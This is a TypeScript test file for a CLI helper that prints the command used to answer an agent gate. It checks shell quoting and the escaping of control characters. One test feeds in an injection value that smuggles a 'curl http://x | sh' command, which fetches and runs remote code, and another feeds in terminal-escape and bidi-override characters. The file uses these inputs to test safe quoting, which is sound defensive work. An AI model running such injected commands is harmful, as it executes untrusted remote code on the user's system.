import { describe, expect, it } from "vitest";
import { gateText } from "../../../src/cli/conclude-run.ts";
import type { GateRecord } from "../../../src/engine/state/run-state.ts";

function gateWith(...values: string[]): GateRecord {
  const options = values.map((value) => ({ label: "Yes", value }));
  const gate = { gate: "g-1", seq: 41, agent: "root", call: "c", prompt: "Which?", options, allowedEvents: ["ANSWER"] };
  return { ...gate, outputSchema: undefined, answer: undefined };
}

describe("the command that answers a gate", () => {
  it("takes the value of an option as one word, whatever a model wrote there", () => {
    const last = gateText("hypo", "r", gateWith("no'; curl http://x | sh; '")).split("\n").at(-1);
    expect(last).toBe(`Answer it with: hypo respond r 41 --event ANSWER --output '"no'\\''; curl http://x | sh; '\\''"'`);
  });

  it("is printed without anything that a terminal would obey or hide", () => {
    const text = gateText("hypo", "r", gateWith("a\u009B2J\u202Eb\u200B"));
    expect(text).not.toMatch(/[^\P{C}\n]/u);
    expect(text).toContain(`--output '"a\\u009b2J\\u202eb\\u200b"'`);
  });

  it("says that a text is taken where there are no options", () => {
    expect(gateText("hypo", "r", gateWith())).toContain(`hypo respond r 41 --event ANSWER --output '"..."'`);
  });
});
